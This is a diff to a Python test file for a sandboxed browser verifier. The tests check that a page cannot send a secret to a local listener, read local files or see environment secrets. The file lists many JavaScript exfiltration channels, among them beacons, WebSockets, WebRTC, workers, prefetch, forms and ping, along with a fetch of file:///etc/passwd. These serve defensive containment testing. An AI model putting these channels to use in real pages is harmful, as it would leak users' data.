@@ -1,4 +1,4 @@
-"""A page that tries every way out: a listener outside hears nothing, and nothing of ours can be read inside."""
+"""A page that tries every way out: a listener outside hears nothing, nothing of ours can be read."""
 
 import os
 import socket
@@ -61,35 +61,45 @@ WAYS_OUT = {
     "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('POST', OUT); x.send('s')",
     "beacon": "navigator.sendBeacon(OUT, 'secret')",
     "image": "new Image().src = OUT",
-    "style": "document.head.insertAdjacentHTML('beforeend', `<link rel=stylesheet href='${OUT}'>`)",
-    "frame": "document.body.insertAdjacentHTML('beforeend', `<iframe title=f src='${OUT}'></iframe>`)",
-    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${OUT}').catch(() => {}); try { importScripts('${OUT}') } catch {}`])))",
-    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('${OUT}').catch(() => {})`])))",
+    "style": "add(`<link rel=stylesheet href='${OUT}'>`)",
+    "frame": "add(`<iframe title=f src='${OUT}'></iframe>`)",
+    "worker": "new Worker(code(`fetch('${OUT}').catch(() => {}); try { importScripts('${OUT}') } catch {}`))",
+    "shared worker": "new SharedWorker(code(`fetch('${OUT}').catch(() => {})`))",
     "service worker": "navigator.serviceWorker.register('sw.js').catch(() => {})",
     "WebSocket": "new WebSocket(OUT.replace('http', 'ws'))",
     "EventSource": "new EventSource(OUT)",
-    "WebRTC": "const c = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${PORT}`}]}); c.createDataChannel('d'); "
-    "c.createOffer().then(o => c.setLocalDescription(o))",
+    "WebRTC": "const c = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${PORT}`}]});"
+    "c.createDataChannel('d'); c.createOffer().then(o => c.setLocalDescription(o))",
     "popup": "window.open(OUT)",
-    "popup of a click": "const a = document.createElement('a'); a.href = OUT; a.target = '_blank'; document.body.append(a); a.click()",
-    "prefetch": "document.head.insertAdjacentHTML('beforeend', `<link rel=dns-prefetch href='${OUT}'><link rel=preconnect href='${OUT}'>"
-    "<link rel=prefetch href='${OUT}'>`)",
-    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; "
-    "s.text = JSON.stringify({prefetch: [{urls: [OUT]}], prerender: [{urls: [OUT]}]}); document.head.append(s)",
-    "form": "const f = document.createElement('form'); f.action = OUT; f.method = 'post'; f.target = '_blank'; document.body.append(f); f.submit()",
-    "download": "const d = document.createElement('a'); d.href = OUT; d.download = 'x'; document.body.append(d); d.click()",
-    "ping": "const p = document.createElement('a'); p.href = '#x'; p.ping = OUT; document.body.append(p); p.click()",
-    "video": "document.body.insertAdjacentHTML('beforeend', `<video src='${OUT}' autoplay muted></video>`)",
+    "popup of a click": "follow({target: '_blank'})",
+    "prefetch": "for (const rel of ['dns-prefetch', 'preconnect', 'prefetch'])"
+    "add(`<link rel=${rel} href='${OUT}'>`)",
+    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules';"
+    "s.text = JSON.stringify({prefetch: [{urls: [OUT]}], prerender: [{urls: [OUT]}]});"
+    "document.head.append(s)",
+    "form": "add(`<form action='${OUT}' method=post target=_blank></form>`); document.forms[0].submit()",
+    "download": "follow({download: 'x'})",
+    "ping": "follow({href: '#x', ping: OUT})",
+    "video": "add(`<video src='${OUT}' autoplay muted></video>`)",
     "leaving": "location.href = OUT",
 }
 
+TOOLS = """
+const OUT = `http://127.0.0.1:${PORT}/secret`;
+const add = (html) => document.body.insertAdjacentHTML('beforeend', html);
+const code = (text) => URL.createObjectURL(new Blob([text]));
+const follow = (fields) => {
+  const a = Object.assign(document.createElement('a'), {href: OUT}, fields);
+  document.body.append(a);
+  a.click();
+};
+"""
+
 
 def judge(verifier: Verifier, script: str, listener: Listener) -> Verdict:
-    out = f"const PORT = {listener.port}, OUT = `http://127.0.0.1:${{PORT}}/secret`;"
-    files = {
-        "index.html": page(script=out + script).encode(),
-        "sw.js": f"fetch('http://127.0.0.1:{listener.port}')".encode(),
-    }
+    html = page(script=f"const PORT = {listener.port};{TOOLS}{script}")
+    worker = f"fetch('http://127.0.0.1:{listener.port}')"
+    files = {"index.html": html.encode(), "sw.js": worker.encode()}
     return verifier.verify(Site(files), Plan(checks=()))
 
 
@@ -106,7 +116,7 @@ def test_the_listener_would_hear(listener: Listener) -> None:
 
 
 def test_files_of_this_machine_cannot_be_read(verifier: Verifier, listener: Listener) -> None:
-    script = "fetch('file:///etc/passwd').then(() => { throw new Error('it was read') }, () => { document.title = 'shut' })"
+    script = "fetch('file:///etc/passwd').then(() => { throw new Error('it was read') }, () => {})"
     verdict = judge(verifier, script, listener)
     assert [r.check for r in verdict.counted(Status.FAILED) if "it was read" in r.seen] == []
 
@@ -116,8 +126,9 @@ def test_a_dispatched_page_stays_on_its_own_address(verifier: Verifier, listener
     assert "root:" not in verdict.model_dump_json()
 
 
+@pytest.mark.usefixtures("browser_there")
 def test_no_process_of_the_browser_has_a_secret_in_its_environment(
-    monkeypatch: pytest.MonkeyPatch, verifier: Verifier
+    monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     monkeypatch.setenv("OPENAI_API_KEY", "the-key-of-the-house")
     with Verifier(online=False) as fresh:
@@ -129,6 +140,7 @@ def test_no_process_of_the_browser_has_a_secret_in_its_environment(
     assert [each for each in environments if b"the-key-of-the-house" in each] == []
 
 
+@pytest.mark.usefixtures("browser_there")
 def test_no_process_outlives_the_verifier() -> None:
     with Verifier(online=False) as fresh:
         fresh.verify(Site({"index.html": page().encode()}), Plan(checks=()))
